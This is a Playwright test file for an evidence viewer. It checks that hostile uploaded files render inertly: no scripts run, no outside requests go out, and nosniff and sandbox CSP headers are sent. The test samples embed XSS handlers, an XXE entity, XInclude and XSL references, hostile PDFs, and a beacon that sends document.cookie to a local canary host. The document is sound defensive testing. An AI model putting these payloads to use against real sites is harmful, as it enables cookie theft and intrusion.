// Evidence that wants to call home: looking at it asks nothing of anybody else, runs nothing, and opens no dialog.
import { once } from 'node:events';
import { existsSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { SHARED } from '../support/node.mjs';
import { expect, type Person, test } from './fixtures';

/** A server that nobody may ever ask. */
async function canary() {
  const asked: string[] = [];
  const server = createServer((request, answer) => {
    asked.push(`${request.method} ${request.url}`);
    answer.end();
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  return { asked, origin: `http://localhost:${(server.address() as AddressInfo).port}`, close: () => server.close() };
}

const page = (home: string) => `<!doctype html><html><head><meta charset="utf-8"><meta http-equiv="refresh" content="0;url=${home}/refresh">
<link rel="stylesheet" href="${home}/style.css"><link rel="prefetch" href="${home}/prefetch"><script src="${home}/script.js"></script>
<script>alert('page'); fetch('${home}/fetch'); new Image().src = '${home}/image?' + document.cookie;</script></head>
<body onload="fetch('${home}/onload'); alert('onload')" background="${home}/background"><img src="${home}/img.png" onerror="alert('img')">
<iframe src="${home}/frame"></iframe><form action="${home}/form" id="f"></form><script>document.getElementById('f').submit()</script><p>Pay or else</p></body></html>`;

const drawing = (home: string) => `<?xml version="1.0"?><?xml-stylesheet href="${home}/svg.css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="200" onload="alert('svg'); fetch('${home}/svg-onload')">
<script>alert('svg script'); fetch('${home}/svg-script')</script><image width="9" height="9" xlink:href="${home}/svg-image.png"/>
<foreignObject width="90" height="90"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${home}/svg-frame"></iframe></foreignObject><text y="20">Pay or else</text></svg>`;

/** The same as XHTML, as XML with a style sheet that is a program, and as a letter whose body is a page. */
const strict = (home: string) => `<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "${home}/entity">]><html xmlns="http://www.w3.org/1999/xhtml"><head><script src="${home}/xhtml.js"/>
<script>alert('xhtml'); fetch('${home}/xhtml')</script></head><body onload="alert('xhtml onload')"><img src="${home}/xhtml.png"/><p>Pay or else &x;</p></body></html>`;
const feed = (home: string) => `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${home}/feed.xsl"?><feed xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="${home}/include"/>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert('feed'); fetch('${home}/feed')</x:script>Pay or else</feed>`;
const letter = (home: string) => `From: a@example.org\r\nSubject: Pay or else\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${page(home)}`;

/** Every way of looking that the viewer offers. */
async function lookEveryWay({ page: shown, say }: Person, path: string): Promise<void> {
  await shown.goto(path);
  const ways = shown.getByRole('radiogroup', { name: say('Ways of looking') }).locator('label');
  await expect(ways.first()).toBeVisible();
  for (let at = 0; at < (await ways.count()); at++) {
    await ways.nth(at).click();
    const frame = shown.locator('iframe');
    if (await frame.count()) await expect(shown.frameLocator('iframe').locator('body')).toContainText('Pay or else');
  }
}

test('pages and drawings with scripts stay words', async ({ stage }) => {
  const home = await canary();
  const person = await stage.person('Ilse Varga', ['investigator'], { bypassCSP: false });
  const dialogs: string[] = [];
  const strangers: string[] = [];
  person.page.context().on('request', (request) => {
    const { protocol, origin } = new URL(request.url());
    if (!['data:', 'blob:', 'about:'].includes(protocol) && origin !== stage.node.origin) strangers.push(request.url());
  });
  person.page.on('dialog', (dialog) => (dialogs.push(dialog.message()), dialog.dismiss()));
  const { id: space } = await person.api.openCase();
  try {
    for (const [name, content] of [['offer.html', page(home.origin)], ['seal.svg', drawing(home.origin)], ['offer.xhtml', strict(home.origin)], ['feed.xml', feed(home.origin)], ['letter.eml', letter(home.origin)], ['photo.jpg', page(home.origin)]] as const) {
      const exhibit = await person.api.addExhibit(space, { [name]: Buffer.from(content) });
      await test.step(`${name} in the viewer`, () => lookEveryWay(person, `/cases/${space}/evidence/${exhibit.id}`));

      await test.step(`${name} opened by its ticket, in a tab of its own`, async () => {
        const ticket = await person.api.post(`/spaces/${space}/evidence/${exhibit.id}/readings`, { what: 'opened', files: [1] });
        for (const query of ['', '?page=1']) {
          const { headers } = await stage.node.client().exchange('GET', `${ticket.base}files/1${query}`, { raw: true });
          expect(headers.get('x-content-type-options')).toBe('nosniff');
          expect(headers.get('content-security-policy')).toMatch(/^sandbox; default-src 'none'/);
          expect(headers.get('content-type')).not.toMatch(/svg|xml/);
          const tab = await person.page.context().newPage();
          tab.on('dialog', (dialog) => (dialogs.push(dialog.message()), dialog.dismiss()));
          // What is not shown is downloaded: then there is no page to arrive at.
          await tab.goto(`${ticket.base}files/1${query}`, { waitUntil: 'load' }).catch((error: Error) => expect(error.message).toMatch(/download|ERR_ABORTED/i));
          await tab.close();
        }
      });
    }
    expect(strangers).toEqual([]);
    expect(home.asked).toEqual([]);
    expect(dialogs).toEqual([]);
    // The canary sings when it is asked: otherwise the silence above would prove nothing.
    await fetch(`${home.origin}/alive`);
    expect(home.asked).toEqual(['GET /alive']);
  } finally {
    home.close();
  }
});

const PDFS = join(SHARED, 'samples/hostile/pdfjs');
for (const name of ['evaljs.pdf', 'file_url_link.pdf', 'bomb_giant.pdf', 'Pages-tree-refs.pdf', 'REDHAT-1531897-0.pdf']) {
  test(`${name} is looked at without anything running, and the page lives`, async ({ stage }) => {
    test.skip(!existsSync(join(PDFS, name)), 'no shared samples here');
    const person = await stage.person('Ilse Varga', ['investigator'], { bypassCSP: false });
    const seen: string[] = [];
    person.page.on('dialog', (dialog) => (seen.push(`dialog ${dialog.message()}`), dialog.dismiss()));
    person.page.context().on('request', (request) => {
      const { protocol, origin } = new URL(request.url());
      if (!['data:', 'blob:', 'about:'].includes(protocol) && origin !== stage.node.origin) seen.push(request.url());
    });
    const { id: space } = await person.api.openCase();
    const exhibit = await person.api.addExhibit(space, { [name]: await readFile(join(PDFS, name)) });
    await person.page.goto(`/cases/${space}/evidence/${exhibit.id}`);
    await expect(person.page.getByRole('heading', { name, exact: true }).first()).toBeVisible();
    await expect(person.page.locator('canvas, [role=alert]').first()).toBeVisible();
    // The page still does what it is asked to.
    await person.page.getByRole('navigation', { name: person.say('Main'), exact: true }).getByRole('link').first().click();
    await expect(person.page).not.toHaveURL(/evidence/);
    expect(seen).toEqual([]);
  });
}
